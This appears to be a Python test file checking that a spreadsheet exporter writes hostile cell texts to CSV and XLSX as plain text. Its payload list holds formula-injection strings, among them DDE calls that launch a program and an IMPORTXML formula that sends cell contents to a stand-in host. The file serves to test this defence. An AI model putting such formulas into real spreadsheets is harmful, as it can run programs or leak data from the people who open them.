"""Tables: thirty hostile texts in every column come back as text, never as formula or link."""

from __future__ import annotations

import csv
import io
import tempfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.making_sites import NOW
from workstation.exchange.spreadsheet import (
    LONGEST_CELL,
    Cell,
    Table,
    from_csv_text,
    to_csv,
    to_xlsx,
)

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/","click")',
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    '=WEBSERVICE("http://x.example/")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "'",
    '"=1+1"',
    '",=1+1',
    "a,=1+1",
    'a","=1+1',
    "a\r\n=1+1",
    "http://x.example/",
    "mailto:a@x.example",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "00482913",
    "1e999",
    "NaN",
    "{=1+1}",
    "<b>bold</b>&amp;",
    "Ферейра Ελένη 漢字",
    " =1+1",
)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def table_of(columns: int) -> Table:
    rows: list[tuple[Cell, ...]] = [(payload,) * columns for payload in PAYLOADS]
    return Table("Payloads", tuple(f"Column {n}" for n in range(columns)), rows)


def test_csv_fields_begin_harmlessly_and_read_back_equal() -> None:
    assert to_csv(table_of(4)).startswith(b"\xef\xbb\xbf"), "else Excel takes it for no UTF-8"
    rows = csv_rows(to_csv(table_of(4)))[1:]
    assert len(rows) == len(PAYLOADS)
    for row, payload in zip(rows, PAYLOADS, strict=True):
        for field in row:
            assert not field.startswith(tuple("=+-@\t\r\n\x00＝＋－＠"))
            assert from_csv_text(field) == payload


def test_xlsx_cells_are_texts_and_read_back_equal(tmp_path: Path) -> None:
    path = tmp_path / "payloads.xlsx"
    path.write_bytes(to_xlsx(table_of(4), NOW))
    sheet = load_workbook(path).active
    assert sheet is not None
    for cells, payload in zip(sheet.iter_rows(min_row=2), PAYLOADS, strict=True):
        for cell in cells:
            assert cell.data_type == "s" and cell.hyperlink is None
            assert str(cell.value).replace("_x000D_", "\r") == payload.replace("\r\n", "\r\n")
    with zipfile.ZipFile(path) as parts:
        for name in parts.namelist():
            content = parts.read(name)
            assert b"<f>" not in content, name
            assert "worksheets" not in name or b"hyperlink" not in content, name


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    table = Table("Numbers", ("a", "b"), [(1, "1"), (None, None), (-2, "")])
    assert csv_rows(to_csv(table))[1:] == [["1", "1"], ["", ""], ["-2", ""]]
    path = tmp_path / "numbers.xlsx"
    path.write_bytes(to_xlsx(table, NOW))
    sheet = load_workbook(path).active
    assert sheet is not None
    assert [cell.value for cell in sheet["A"]] == ["a", 1, None, -2]
    assert sheet["B2"].value == "1"


def test_a_text_longer_than_a_cell_is_cut_visibly(tmp_path: Path) -> None:
    path = tmp_path / "long.xlsx"
    path.write_bytes(to_xlsx(Table("Long", ("a",), [("x" * (LONGEST_CELL + 1),)]), NOW))
    sheet = load_workbook(path).active
    assert sheet is not None
    value = str(sheet["A2"].value)
    assert len(value) == LONGEST_CELL and value.endswith("x […]")


def test_an_empty_table_is_a_table(tmp_path: Path) -> None:
    table = Table("Nothing", ("a", "b"), [])
    assert csv_rows(to_csv(table)) == [["a", "b"]]
    path = tmp_path / "empty.xlsx"
    path.write_bytes(to_xlsx(table, NOW))
    assert load_workbook(path).sheetnames == ["Nothing"]


def test_no_temporary_file_is_made(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("a temporary file")

    for name in ("NamedTemporaryFile", "TemporaryFile", "mkstemp", "mkdtemp"):
        monkeypatch.setattr(tempfile, name, refuse)
    assert to_xlsx(table_of(2), NOW).startswith(b"PK")


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
@settings(max_examples=200)
def test_any_text_comes_back_from_csv(texts: list[str]) -> None:
    rows = csv_rows(to_csv(Table("Any", ("a",), [(text,) for text in texts])))[1:]
    assert [from_csv_text(row[0]) for row in rows] == texts
